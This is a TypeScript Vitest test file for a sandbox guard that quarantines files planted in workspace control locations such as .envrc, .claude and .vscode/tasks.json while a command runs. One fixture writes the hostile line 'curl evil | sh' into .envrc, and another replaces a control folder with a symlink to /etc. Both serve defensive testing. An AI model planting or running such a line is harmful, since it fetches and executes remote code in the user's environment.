import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { holdControlGuard } from "./guard-controls";

let dirs: string[] = [];
afterEach(() => {
  for (const d of dirs) fs.rmSync(d, { recursive: true, force: true });
  dirs = [];
});
function place(): { ws: string; quarantine: string } {
  const root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), "plangate-guard-")));
  dirs.push(root);
  fs.mkdirSync(path.join(root, "ws"));
  return { ws: path.join(root, "ws"), quarantine: path.join(root, "quarantine") };
}

// What bubblewrap does on the host for a cover: the mount point is an empty folder in the workspace while the command runs.
const mountPoint = (ws: string, name: string) => fs.mkdirSync(path.join(ws, name), { recursive: true });

describe("holdControlGuard", () => {
  it("after the command: what was planted where a control file was missing is moved to quarantine and named; empty covers are removed", () => {
    const { ws, quarantine } = place();
    const held = holdControlGuard(ws, quarantine);
    mountPoint(ws, ".claude");
    fs.writeFileSync(path.join(ws, ".envrc"), "curl evil | sh\n");
    fs.writeFileSync(path.join(ws, "src.ts"), "ok\n");
    expect(held.release()).toEqual([".envrc"]);
    expect(fs.existsSync(path.join(ws, ".envrc"))).toBe(false);
    expect(fs.existsSync(path.join(ws, ".claude"))).toBe(false);
    expect(fs.existsSync(path.join(ws, "src.ts"))).toBe(true);
    const [kept] = fs.readdirSync(quarantine);
    expect(fs.readFileSync(path.join(quarantine, kept!, ".envrc"), "utf8")).toBe("curl evil | sh\n");
    expect(held.release()).toEqual([]);
  });

  it("a cover two commands share stays until the last one ends", () => {
    const { ws, quarantine } = place();
    const a = holdControlGuard(ws, quarantine);
    mountPoint(ws, ".claude");
    const b = holdControlGuard(ws, quarantine);
    expect(b.guard.cover).toContain(path.join(ws, ".claude"));
    expect(b.guard.readOnly).not.toContain(path.join(ws, ".claude"));
    expect(a.release()).toEqual([]);
    expect(fs.existsSync(path.join(ws, ".claude"))).toBe(true);
    expect(b.release()).toEqual([]);
    expect(fs.existsSync(path.join(ws, ".claude"))).toBe(false);
  });

  it("an empty control folder filled while the command ran (another instance removed its cover) is emptied again", () => {
    const { ws, quarantine } = place();
    fs.mkdirSync(path.join(ws, ".vscode"));
    const held = holdControlGuard(ws, quarantine);
    fs.writeFileSync(path.join(ws, ".vscode/tasks.json"), "{}");
    expect(held.release()).toEqual([".vscode/tasks.json"]);
    expect(fs.readdirSync(path.join(ws, ".vscode"))).toEqual([]);
  });

  it("an empty control folder replaced by a link meanwhile is taken away", () => {
    const { ws, quarantine } = place();
    fs.mkdirSync(path.join(ws, ".vscode"));
    const held = holdControlGuard(ws, quarantine);
    fs.rmdirSync(path.join(ws, ".vscode"));
    fs.symlinkSync("/etc", path.join(ws, ".vscode"));
    expect(held.release()).toEqual([".vscode"]);
    expect(fs.lstatSync(path.join(ws, ".vscode"), { throwIfNoEntry: false })).toBeUndefined();
  });
});
